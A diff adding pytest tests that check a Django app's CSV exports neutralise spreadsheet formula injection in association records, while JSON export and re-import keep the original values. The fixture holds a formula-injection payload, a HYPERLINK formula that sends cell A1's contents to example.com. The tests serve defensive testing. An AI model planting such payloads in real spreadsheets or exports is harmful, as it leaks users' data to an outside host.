@@ -230,3 +230,55 @@ def test_import_needs_add_and_change_permission(client, organisations):
     user.user_permissions.set(Permission.objects.filter(codename__in=["view_organisation", "change_organisation"]))
     client.force_login(user)
     assert client.get("/admin/orgs/organisation/import/").status_code == 403
+
+
+@pytest.fixture
+def formula_organisation():
+    return make_organisation(
+        '=HYPERLINK("https://example.com/?d="&A1,"Klick")', slug="formel", short_name="@SUMME(1)",
+        description_de="-2+3", phone="+49 69 1234", street="\tTabstraße 1", origin_de="=1+1 griechisch",
+    )
+
+
+def test_csv_export_neutralises_cells_that_spreadsheets_read_as_formulas(client, formula_organisation):
+    row = read_csv(client.get("/vereine/export.csv"))[0]
+    assert row["name"] == "'=HYPERLINK(\"https://example.com/?d=\"&A1,\"Klick\")"
+    assert row["short_name"] == "'@SUMME(1)"
+    assert row["description_de"] == "'-2+3"
+    assert row["phone"] == "'+49 69 1234"
+    assert row["street"] == "'\tTabstraße 1"
+    assert row["origin_de"] == "'=1+1 griechisch"
+    assert row["postcode"] == ""
+    assert row["city"] == "Offenbach am Main"
+
+
+def test_json_export_keeps_values_that_look_like_formulas(client, formula_organisation):
+    organisation = json.loads(client.get("/vereine/export.json").content)["organisations"][0]
+    assert organisation["name"] == '=HYPERLINK("https://example.com/?d="&A1,"Klick")'
+    assert organisation["contact"]["phone"] == "+49 69 1234"
+
+
+def test_admin_csv_export_neutralises_formulas(admin_client, formula_organisation):
+    response = admin_client.post("/admin/orgs/organisation/export/", {"format": "0", "resource": "0", **{
+        f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS
+    }})
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
+    assert row["name"] == "'=HYPERLINK(\"https://example.com/?d=\"&A1,\"Klick\")"
+    assert row["phone"] == "'+49 69 1234"
+
+
+def test_neutralised_export_imports_to_the_original_values(client, admin_client, formula_organisation):
+    exported = client.get("/vereine/export.csv").content.decode("utf-8")
+    before = _public_state()
+    Organisation.objects.all().delete()
+    preview, confirmed = _admin_import(admin_client, exported)
+    assert confirmed.status_code == 302
+    assert _public_state() == before
+    assert Organisation.objects.get().phone == "+49 69 1234"
+
+
+def test_import_keeps_an_apostrophe_that_does_not_guard_a_formula(admin_client):
+    content = "slug,name,kind,description_de\nsalam,'Salam' Verein,verein,'n Treffpunkt\n"
+    _admin_import(admin_client, content)
+    organisation = Organisation.objects.get(slug="salam")
+    assert (organisation.name, organisation.description_de) == ("'Salam' Verein", "'n Treffpunkt")
